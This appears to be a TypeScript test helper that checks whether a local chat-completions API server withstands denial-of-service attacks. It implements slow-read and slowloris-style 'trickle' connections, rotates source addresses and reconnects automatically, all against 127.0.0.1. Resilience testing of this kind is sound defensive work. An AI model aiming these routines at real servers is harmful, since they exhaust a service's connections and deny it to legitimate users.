// Who takes up a server's time without using it? Readers that stop reading, and senders that send a byte now and then.

import { connect, type Socket } from 'node:net';
import { writeRequest } from '../raw-client.ts';

export interface Attack {
  /** Connections that are open now. */
  open(): number;
  /** Connections that the server has ended so far. */
  ended(): number;
  stop(): void;
}

export interface AttackTarget {
  readonly port: number;
  readonly authorization: string;
  readonly model: string;
}

/** Each asks for a stream and reads no more than its beginning. Who is refused, because there is too much to do, comes again. */
export function stallReaders({ port, authorization, model }: AttackTarget, count: number): Attack {
  const request = writeRequest({
    path: '/v1/chat/completions',
    headers: { authorization },
    body: { model, stream: true, messages: [{ role: 'user', content: 'a long story' }] },
  });
  return attackWith(port, count, (socket) => {
    socket.once('data', (beginning) => {
      if (beginning.toString('latin1').startsWith('HTTP/1.1 200 ')) socket.pause();
      else socket.destroy();
    });
    socket.write(request);
  });
}

/**
 * A third is slow in its headers, a third in a body of known length, a third in chunks. Who is released comes again, from 16 addresses in
 * turn.
 */
export function trickle({ port, authorization }: AttackTarget, count: number, everyMs: number): Attack {
  const head = `POST /v1/chat/completions HTTP/1.1\r\nhost: a\r\nauthorization: ${authorization}\r\n`;
  const ways = [
    { start: head, more: 'x-a: b\r\n' },
    { start: `${head}content-length: 100000\r\n\r\n{`, more: ' ' },
    { start: `${head}transfer-encoding: chunked\r\n\r\n`, more: '1\r\n \r\n' },
  ];
  let opened = 0;
  const attack = attackWith(
    port,
    count,
    (socket) => {
      const way = ways[opened++ % ways.length];
      if (way === undefined) return;
      socket.resume();
      socket.write(way.start);
      const timer = setInterval(() => socket.write(way.more), everyMs);
      socket.once('close', () => clearInterval(timer));
    },
    () => `127.0.0.${2 + (opened % 16)}`,
  );
  return attack;
}

function attackWith(
  port: number,
  count: number,
  begin: (socket: Socket) => void,
  from?: () => string,
): Attack {
  const sockets = new Set<Socket>();
  let ended = 0;
  let isStopped = false;
  const open = (): void => {
    const socket = connect({ port, host: '127.0.0.1', ...(from ? { localAddress: from() } : {}) });
    sockets.add(socket);
    socket.once('connect', () => begin(socket));
    // The end is what matters, however it came.
    socket.on('error', () => {});
    socket.once('close', () => {
      sockets.delete(socket);
      if (isStopped) return;
      ended++;
      open();
    });
  };
  // Not all in one moment: what is shown is what they cost when they are there.
  let left = count;
  const timer = setInterval(() => {
    for (let n = 0; n < 20 && left > 0; n++, left--) open();
    if (left === 0) clearInterval(timer);
  }, 20);
  return {
    open: () => [...sockets].filter(({ readyState }) => readyState === 'open').length,
    ended: () => ended,
    stop() {
      isStopped = true;
      clearInterval(timer);
      for (const socket of sockets) socket.destroy();
    },
  };
}
